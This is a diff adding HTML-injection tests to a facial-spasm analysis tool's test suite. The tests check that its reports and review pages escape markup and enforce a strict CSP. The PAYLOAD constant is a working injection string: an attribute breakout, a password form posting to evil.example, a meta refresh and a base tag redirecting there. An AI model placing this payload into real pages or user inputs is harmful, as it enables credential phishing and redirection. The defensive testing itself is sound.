@@ -196,3 +196,183 @@ def test_events_json_says_how_to_tell_mouth_only_events(tmp_path):
     assert "mouth-only" in doc["trial_type"]["Levels"]["spasm"]
     assert "regions != 'mouth'" in doc["trial_type"]["Levels"]["spasm"]
 
+
+
+# ======================================================================= 11. HTML injection
+
+# markup in every string field: a form to steal a password, a meta refresh, a <base>, a
+# broken-out attribute; every element it would create carries data-pwn
+PAYLOAD = ('"\'><form data-pwn action="https://evil.example/"><input data-pwn name="pw">'
+           '</form><meta data-pwn http-equiv="refresh" content="0;url=https://evil.example/">'
+           '<base data-pwn href="https://evil.example/"><b data-pwn>x</b>')
+NAME_PAYLOAD = PAYLOAD.replace("/", "")  # a folder name holds no slash
+
+PROBE = """<script>
+document.title = JSON.stringify({
+  injected: document.querySelectorAll('[data-pwn]').length,
+  forms: document.forms.length,
+  inputs: document.querySelectorAll('input').length,
+  bases: document.querySelectorAll('base').length,
+  refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
+  cursors: [...document.querySelectorAll('.cursor')].map(c => c.style.left),
+});
+</script>"""
+
+
+def _csp(page: str) -> str:
+    import re
+
+    return re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)[1]
+
+
+def dom_probe(chromium: str, page: Path, tmp: Path, keep_csp: bool = False) -> dict:
+    """What Chromium built from ``page``: elements the payload would create, forms, bases.
+
+    The probe is a script appended to a copy of the page, the page's CSP removed so that the
+    probe runs (``keep_csp``: the CSP kept, the page's own scripts only; the probe then
+    reports nothing and the cursors show whether the page's script ran).
+    """
+    import json
+    import re
+    import subprocess
+
+    from test_report import CHROMIUM_FLAGS
+
+    text = page.read_text(encoding="utf-8")
+    probe = page.with_name(f"probe-{len(list(page.parent.glob('probe-*')))}-{page.name}")
+    if keep_csp:
+        probe.write_text(text, encoding="utf-8")
+    else:
+        text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text, count=1)
+        probe.write_text(text.replace("</body>", PROBE + "</body>"), encoding="utf-8")
+    dom = subprocess.run(
+        [chromium, *CHROMIUM_FLAGS, f"--user-data-dir={tmp / 'probe-profile'}", "--dump-dom",
+         "--virtual-time-budget=3000", probe.as_uri()],
+        check=True, capture_output=True, text=True, timeout=120,
+    ).stdout  # fmt: skip
+    probe.unlink()
+    if keep_csp:
+        return {"dom": dom}
+    title = re.search(r"<title>(.*?)</title>", dom, re.S)[1]
+    import html
+
+    return json.loads(html.unescape(title))
+
+
+def _poisoned_result(tmp_path: Path) -> Path:
+    """A result folder (real writers) with the payload in every string field a reader keeps:
+    its name (the folder's), summary.json's texts, events.tsv's kind, regions and context."""
+    import json
+
+    folder = sim_result(tmp_path / f"{NAME_PAYLOAD}.spasm-cv", seconds=30.0)
+    summary = json.loads((folder / "summary.json").read_text())
+    summary["complete"] = False
+    summary["interrupted"] = PAYLOAD
+    summary["model"] = {"name": PAYLOAD, "sha256": PAYLOAD}
+    summary["software"] = {"name": "spasm-cv", "version": PAYLOAD}
+    (folder / "summary.json").write_text(json.dumps(summary))
+    rows = (folder / "events.tsv").read_text().splitlines()
+    head = rows[0].split("\t")
+    out = [rows[0]]
+    for line in rows[1:]:
+        cells = line.split("\t")
+        if cells[head.index("trial_type")] == "spasm":
+            for col in ("kind", "context"):  # regions: an enum the readers count by
+                cells[head.index(col)] = cells[head.index(col)] + PAYLOAD.replace("\t", " ")
+        out.append("\t".join(cells))
+    (folder / "events.tsv").write_text("\n".join(out) + "\n")
+    return folder
+
+
+def _assert_clean(seen: dict) -> None:
+    assert seen["injected"] == 0 and seen["forms"] == 0 and seen["inputs"] == 0, seen
+    assert seen["bases"] == 0 and seen["refresh"] == 0, seen
+
+
+def test_report_shows_markup_from_data_as_text(chromium, tmp_path):
+    folder = _poisoned_result(tmp_path)
+    page = tmp_path / "report.html"
+    code, _, err = cli("report", folder, "--out", page, "--title", PAYLOAD,
+                       "--treatment", f"2023-11-14:{PAYLOAD}")
+    if code == 2:  # a reader that refuses the edited file: one line, no page
+        assert len(err.strip().splitlines()) == 1 and not page.exists(), err
+        pytest.skip(f"the edited result is refused: {err.strip()}")
+    assert code == 0, err
+    text = page.read_text(encoding="utf-8")
+    assert PAYLOAD not in text and "&lt;form data-pwn" in text
+    _assert_clean(dom_probe(chromium, page, tmp_path))
+
+
+def test_report_of_a_monitor_database_shows_markup_as_text(chromium, tmp_path):
+    import time
+
+    from spasm_cv.live.store import Batch, SessionInfo, Store
+
+    db = tmp_path / "m.sqlite"
+    with Store(db) as store:
+        sid = store.begin_session(SessionInfo(time.time() - 120, PAYLOAD, "stream", 25.0, 640,
+                                              480, False, {}, PAYLOAD, PAYLOAD, PAYLOAD))
+        event = Event(1.0, 0.5, "spasm", "right", "twitch", "eye", 1, 0.6, 0.2, False, None,
+                      0.7, "none")
+        store.write(sid, time.time() - 120, Batch.of(events=[event, _mouth_only(3.0)]))
+        store.end_session(sid, time.time(), PAYLOAD)
+        store.conn.execute("UPDATE events SET kind = kind || ?, context = context || ?",
+                           (PAYLOAD, PAYLOAD))
+    page = tmp_path / "db.html"
+    code, _, err = cli("report", "--db", db, "--out", page)
+    if code == 2:
+        assert len(err.strip().splitlines()) == 1 and not page.exists(), err
+        pytest.skip(f"the edited database is refused: {err.strip()}")
+    assert code == 0, err
+    assert PAYLOAD not in page.read_text(encoding="utf-8")
+    _assert_clean(dom_probe(chromium, page, tmp_path))
+
+
+def test_every_page_forbids_forms_and_base_and_inline_scripts(tmp_path):
+    from spasm_cv._html import script_hash
+    from spasm_cv.report.html import CSP as REPORT_CSP
+    from spasm_cv.review.page import CSP as REVIEW_CSP
+    from spasm_cv.review.page import SCRIPT
+
+    page = tmp_path / "r.html"
+    assert cli("report", sim_result(tmp_path / "r.spasm-cv"), "--out", page).returncode == 0
+    for policy in (_csp(page.read_text()), str(REPORT_CSP), str(REVIEW_CSP)):
+        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
+        assert directives["default-src"] == "'none'"
+        assert directives["form-action"] == "'none'" and directives["base-uri"] == "'none'"
+        assert "'unsafe-inline'" not in directives.get("script-src", "")
+    assert "script-src" not in _csp(page.read_text())  # the report runs no script at all
+    assert f"script-src {script_hash(SCRIPT)}" in str(REVIEW_CSP)
+
+
+@pytest.mark.slow  # MediaPipe: review runs the face tracker again
+def test_review_index_shows_markup_as_text_and_runs_only_its_own_script(
+    sample_result, chromium, tmp_path
+):
+    import shutil
+
+    folder = tmp_path / f"{NAME_PAYLOAD}.spasm-cv"
+    shutil.copytree(sample_result, folder)
+    rows = (folder / "events.tsv").read_text().splitlines()
+    head = rows[0].split("\t")
+    out = [rows[0]]
+    for line in rows[1:]:
+        cells = line.split("\t")
+        if cells[head.index("trial_type")] == "spasm":
+            for col in ("kind", "context"):  # regions: an enum the readers count by
+                cells[head.index(col)] += PAYLOAD
+        out.append("\t".join(cells))
+    (folder / "events.tsv").write_text("\n".join(out) + "\n")
+    episodes = tmp_path / "episodes"
+    code, _, err = cli("review", folder, "--episodes-only", "--out", episodes, "--quiet")
+    if code == 2:
+        assert len(err.strip().splitlines()) == 1, err
+        pytest.skip(f"the edited result is refused: {err.strip()}")
+    assert code == 0, err
+    page = episodes / "index.html"
+    text = page.read_text(encoding="utf-8")
+    assert PAYLOAD not in text and "&lt;form data-pwn" in text
+    _assert_clean(dom_probe(chromium, page, tmp_path))
+    # with its CSP: the page's own script runs (the cursors are placed), by its hash
+    dom = dom_probe(chromium, page, tmp_path, keep_csp=True)["dom"]
+    assert 'class="cursor" style="left:' in dom
